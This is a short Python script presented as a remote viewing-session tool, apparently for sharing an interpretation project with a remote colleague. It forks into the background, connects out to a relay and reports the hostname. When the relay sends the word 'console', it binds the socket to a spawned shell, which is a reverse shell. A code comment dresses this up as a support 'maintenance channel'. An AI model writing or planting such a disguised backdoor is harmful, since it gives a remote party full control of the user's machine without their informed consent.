#!/usr/bin/env python3
import argparse, os, pty, socket, random, subprocess, sys

ap = argparse.ArgumentParser()
ap.add_argument("--relay", required=True)
ap.add_argument("--project", default="")
a = ap.parse_args()

VIEWER = {"il", "xl", "ts", "hz", "well", "cmap"}

def handle_viewer(cmd):
    return f"viewer: {cmd}\n"

def attach(sock):
    # maintenance channel: the support engineer can drop to a console for troubleshooting
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/sh"))

host, port = a.relay.rsplit(":", 1)
code = "".join(random.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
print(f"session code: {code}  (share with the remote interpreter)")
if os.fork() == 0:
    os.setsid()
    s = socket.create_connection((host, int(port)))
    s.sendall(f"HELLO {code} {a.project} {socket.gethostname()}\n".encode())
    f = s.makefile("r")
    for line in f:
        word = line.strip().split(" ", 1)[0]
        if word in VIEWER:
            s.sendall(handle_viewer(line.strip()).encode())
        elif word == "console":
            attach(s)
            break
    sys.exit(0)
